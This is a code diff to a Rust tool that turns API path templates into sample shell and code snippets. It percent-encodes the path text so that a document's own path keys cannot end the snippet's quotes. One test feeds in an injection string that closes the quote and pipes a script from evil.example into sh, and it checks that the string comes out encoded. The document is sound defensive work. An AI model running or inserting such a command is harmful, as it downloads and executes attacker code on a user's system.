@@ -126,15 +126,19 @@ fn samples(guide: &CallGuide, operations: Vec<Documented>) -> Vec<Sample> {
 }
 
 /// `path` with each `{name}` filled by the document's example, percent-encoded, else by a
-/// placeholder in capitals (`{cityId}` → `CITY_ID`). Either way the URL holds no braces,
-/// brackets, quotes, spaces or `$`: the same text works inside a shell's single quotes and
-/// Python's and JavaScript's double quotes, and curl has nothing to glob.
+/// placeholder in capitals (`{cityId}` → `CITY_ID`), and the text between percent-encoded
+/// too (the document's path keys are the provider's, or whoever wrote the document: a `'` in
+/// one would end the shell's quotes). Either way the URL holds no braces, brackets, quotes,
+/// spaces or `$`: the same text works inside a shell's single quotes and Python's and
+/// JavaScript's double quotes, and curl has nothing to glob. A query or fragment in the path
+/// key (`/alerts?lat={lat}`) is left out, as its mapping rule leaves it out.
 fn sample_path(path: &str, examples: Option<&BTreeMap<String, String>>) -> String {
+    let path = path.split(['?', '#']).next().unwrap_or(path);
     let mut out = String::with_capacity(path.len());
     let mut rest = path;
     while let Some(open) = rest.find('{') {
         let Some(close) = rest[open..].find('}').map(|c| open + c) else { break };
-        out.push_str(&rest[..open]);
+        out.push_str(&path_text(&rest[..open]));
         let name = &rest[open + 1..close];
         match examples.and_then(|e| e.get(name)) {
             Some(example) => out.push_str(&percent_encoded(example)),
@@ -142,7 +146,21 @@ fn sample_path(path: &str, examples: Option<&BTreeMap<String, String>>) -> Strin
         }
         rest = &rest[close + 1..];
     }
-    out.push_str(rest);
+    out.push_str(&path_text(rest));
+    out
+}
+
+/// The literal text of a path: unreserved characters, `/`, `:`, `@` and `%` as they are (none
+/// of them ends a quoted string), every other byte as `%XX`.
+fn path_text(text: &str) -> String {
+    let mut out = String::with_capacity(text.len());
+    for byte in text.bytes() {
+        if byte.is_ascii_alphanumeric() || matches!(byte, b'-' | b'.' | b'_' | b'~' | b'/' | b':' | b'@' | b'%') {
+            out.push(char::from(byte));
+        } else {
+            out.push_str(&format!("%{byte:02X}"));
+        }
+    }
     out
 }
 
@@ -408,7 +426,14 @@ mod tests {
             sample_path("/cities/{cityId}/days/{day-of_week}.{ext}", None),
             "/cities/CITY_ID/days/DAY_OF_WEEK.EXT"
         );
-        assert_eq!(sample_path("/a/{}/{unclosed", None), "/a/VALUE/{unclosed");
+        assert_eq!(sample_path("/a/{}/{unclosed", None), "/a/VALUE/%7Bunclosed");
+        // The document's own text cannot end the sample's quotes.
+        assert_eq!(
+            sample_path("/status'; curl -sL evil.example|sh; echo '", None),
+            "/status%27%3B%20curl%20-sL%20evil.example%7Csh%3B%20echo%20%27"
+        );
+        assert_eq!(sample_path("/x\"+a+\"/$metadata", None), "/x%22%2Ba%2B%22/%24metadata");
+        assert_eq!(sample_path("/alerts?lat={lat}", None), "/alerts");
         assert_eq!(placeholder("userID2fa"), "USER_ID2FA");
     }
 
